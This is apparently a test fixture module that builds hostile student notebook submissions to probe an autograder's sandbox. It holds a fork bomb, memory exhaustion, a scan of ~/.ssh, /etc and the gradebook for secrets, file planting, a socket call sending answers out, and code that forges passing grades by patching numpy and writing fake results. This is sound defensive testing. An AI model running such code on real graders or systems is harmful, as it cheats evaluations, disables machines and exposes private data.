"""Submissions as students and their opponents hand them in: each returns a notebook, and may put files beside it."""

from __future__ import annotations

from pathlib import Path

import nbformat
from classroom import cell, solved, untouched
from nbformat import NotebookNode


def with_cell(notebook: NotebookNode, source: str, place: int = 3) -> NotebookNode:
    """Return the notebook with a cell of the student's own among its first ones."""
    notebook.cells.insert(place, nbformat.v4.new_code_cell(source))
    return notebook


def own_modules(folder: Path) -> NotebookNode:
    """Solved, beside a `lib` and a `numpy.py` of its own that must not be imported."""
    (folder / "lib").mkdir(parents=True)
    for name in ("numpy.py", "lib/__init__.py", "wire.py", "json.py"):
        (folder / name).write_text("raise SystemExit('mine was imported')")
    return with_cell(solved(), "import lib, numpy\nprint(lib.__file__, numpy.__file__)")


def common_mistake(folder: Path) -> NotebookNode:
    """Solved, but for the gate's one half, which many forget."""
    notebook = solved()
    gain = cell(notebook, "expected-square")
    gain.source = gain.source.replace("0.5 if gated else 1", "1")
    return notebook


def endless_loop(folder: Path) -> NotebookNode:
    """Solved, but for an endless loop where the output should be written."""
    notebook = solved()
    cell(notebook, "output").source = "while True:\n    pass"
    return notebook


def endless_answer(folder: Path) -> NotebookNode:
    """Solved, but for a function that never returns."""
    notebook = solved()
    cell(notebook, "depth-ratio").source += "\n\n\ndef gain_for(ratio, depth):\n    while True:\n        pass"
    return notebook


def endless_thread(folder: Path) -> NotebookNode:
    """Solved, with a thread that never ends."""
    source = """import threading


def spin():
    while True:
        pass


threading.Thread(target=spin).start()"""
    return with_cell(solved(), source)


def fork_bomb(folder: Path) -> NotebookNode:
    """Solved, with a fork bomb after the third question that holds on to every exception."""
    notebook = solved()
    place = notebook.cells.index(cell(notebook, "test-derivative")) + 1
    source = """import os

while True:
    try:
        os.fork()
    except BaseException:
        pass"""
    return with_cell(notebook, source, place)


def one_large_array(folder: Path) -> NotebookNode:
    """Solved, with an array of 30 GB."""
    return with_cell(solved(), "import numpy as np\n\nnp.ones(30 * 2**27)", 4)


def many_processes_of_memory(folder: Path) -> NotebookNode:
    """Untouched, with processes that hold 300 MB each."""
    source = """import os, time

for _ in range(12):
    if os.fork() == 0:
        held = b"x" * 300_000_000
        time.sleep(60)
time.sleep(60)"""
    return with_cell(untouched(), source)


def edited_tests(folder: Path) -> NotebookNode:
    """Untouched, with tests that always pass."""
    notebook = untouched()
    for each in notebook.cells:
        if each.metadata.get("nbgrader", {}).get("grade"):
            each.source = "assert True"
            each.metadata.nbgrader.points = 1000
    return notebook


def deleted_cells(folder: Path) -> NotebookNode:
    """Solved, without the cell of the derivative and without a test."""
    notebook = solved()
    for name in ("derivative", "test-betas"):
        notebook.cells.remove(cell(notebook, name))
    return notebook


def reader(course: Path, masters: Path):
    """Return a submission that looks for hidden tests, the gradebook, a neighbour and the teacher's home."""

    def hand_in(folder: Path) -> NotebookNode:
        home = Path.home()
        places = [str(course), str(masters), "/home", str(home / ".config"), str(home / ".ssh"), "/proc/1/root", "/etc"]
        words = [
            ("SQLite ", "format"),
            ("only-", "ann-wrote-this"),
            ("of a layer", ", not its outputs"),
            ("root:", "x:"),
        ]
        source = f"""import glob, os
words = ["".join(pair) for pair in {words!r}]
found = []
for place in {places!r}:
    for path in glob.glob(place + "/**", recursive=True)[:5000]:
        if os.path.isfile(path):
            try:
                text = open(path, errors="replace").read(10_000_000)
            except OSError:
                continue
            if any(word in text for word in words):
                found.append(path)
print("FOUND", found)
print("ENVIRONMENT", sorted(os.environ))"""
        return with_cell(untouched(), source)

    return hand_in


def writer(course: Path, library: Path):
    """Return a submission that writes wherever it may."""

    def hand_in(folder: Path) -> NotebookNode:
        targets = [str(course / "gradebook.db"), str(course / "planted"), str(library / "planted.py"), "planted",
                   "/planted",
                   "/usr/planted", "/submission/01_initialization.ipynb", "/library/lib/__init__.py"]  # fmt: skip
        source = f"""written = []
for path in {targets!r}:
    try:
        open(path, "a").write("planted")
        written.append(path)
    except OSError as error:
        pass
print("WRITTEN", written)
open("/tmp/large", "wb").write(b"x" * 2**30)"""
        return with_cell(solved(), source)

    return hand_in


def socket_opener(port: int):
    """Return a submission that calls home, to a port of this machine at which a test listens."""

    def hand_in(folder: Path) -> NotebookNode:
        source = f"""import socket
for host in ("127.0.0.1", "localhost", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"answers")
        print("CONNECTED", host)
    except OSError as error:
        print("refused", type(error).__name__)"""
        return with_cell(solved(), source)

    return hand_in


def forger(folder: Path) -> NotebookNode:
    """Untouched, with everything patched that a checker in the same process would rely on."""
    source = """import builtins, gc, json, os, sys
import numpy as np

yes = lambda *a, **k: True
np.allclose = np.isclose = np.array_equal = np.all = yes


class Anything:
    def __eq__(self, other): return True
    def __le__(self, other): return True
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    __hash__ = None
    shape = ()


for name in "betas output derivative layer_gain expected_square sampled_square depth_ratio gain_for".split():
    globals()[name] = lambda *a, **k: Anything()
wire = sys.modules.get("wire")
if wire:
    wire.encode = lambda value: {"plain": float("nan")}
for descriptor in range(3, 20):
    for line in ({"id": 5, "value": {"plain": 1}}, {"score": 20, "passed": True}):
        try:
            os.write(descriptor, (json.dumps(line) + "\\n").encode())
        except OSError:
            pass"""
    return with_cell(untouched(), source)


def dying_kernel(folder: Path) -> NotebookNode:
    """Solved, with a process that kills itself after the third question."""
    notebook = solved()
    place = notebook.cells.index(cell(notebook, "test-derivative")) + 1
    return with_cell(notebook, "import os\n\nos.kill(os.getpid(), 9)", place)
